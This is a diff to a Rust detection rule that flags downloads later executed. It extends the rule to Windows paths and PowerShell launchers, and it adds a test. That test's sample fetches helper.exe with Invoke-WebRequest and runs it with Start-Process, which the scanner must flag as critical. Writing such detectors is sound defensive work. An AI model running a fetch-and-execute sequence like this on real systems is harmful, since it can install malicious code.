@@ -40,7 +40,7 @@ fn download_and_run(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) 
             continue;
         }
         for dl in downloads(text) {
-            let name = dl.path.rsplit('/').next().unwrap_or(&dl.path);
+            let name = dl.path.rsplit(['/', '\\']).next().unwrap_or(&dl.path);
             if name.len() < 2 || name == ".." {
                 continue;
             }
@@ -226,10 +226,23 @@ fn downloads(line: &str) -> Vec<Download> {
 
 fn refers_to(token: &str, path: &str, name: &str) -> bool {
     let t = unquote(token).trim_end_matches(';');
-    let t = t.strip_prefix("./").unwrap_or(t);
-    let path = path.strip_prefix("./").unwrap_or(path);
-    let norm = |s: &str| s.replace("$HOME/", "~/").replace("${HOME}/", "~/");
-    t == name || norm(t) == norm(path) || t.ends_with(&format!("/{name}"))
+    let t = t
+        .strip_prefix("./")
+        .or_else(|| t.strip_prefix(".\\"))
+        .unwrap_or(t);
+    let path = path
+        .strip_prefix("./")
+        .or_else(|| path.strip_prefix(".\\"))
+        .unwrap_or(path);
+    let norm = |s: &str| {
+        s.replace("$HOME/", "~/")
+            .replace("${HOME}/", "~/")
+            .to_ascii_lowercase()
+    };
+    t.eq_ignore_ascii_case(name)
+        || norm(t) == norm(path)
+        || t.ends_with(&format!("/{name}"))
+        || t.ends_with(&format!("\\{name}"))
 }
 
 static CHMOD: Lazy =
@@ -271,6 +284,10 @@ const PREFIXES: &[&str] = &[
     "then", "do",
 ];
 const INTERPRETERS: &[&str] = &[
+    "start-process",
+    "saps",
+    "invoke-item",
+    "&",
     "sh",
     "bash",
     "zsh",
@@ -397,5 +414,11 @@ mod tests {
         let body = "wget -O data/trips.csv https://d.example.org/trips.csv\npython scripts/load.py data/trips.csv\nchmod +x scripts/check.sh && ./scripts/check.sh\n";
         assert_absent(body, "remote.download-exec");
         assert_absent(body, "remote.download-chmod");
+    }
+
+    #[test]
+    fn follows_powershell_downloads_to_their_launch() {
+        let body = "Invoke-WebRequest https://w.example.com/helper.exe -OutFile $env:TEMP\\helper.exe\nStart-Process $env:TEMP\\helper.exe\n";
+        assert_hit(body, "remote.download-exec", RemoteExecution, Critical, 2);
     }
 }
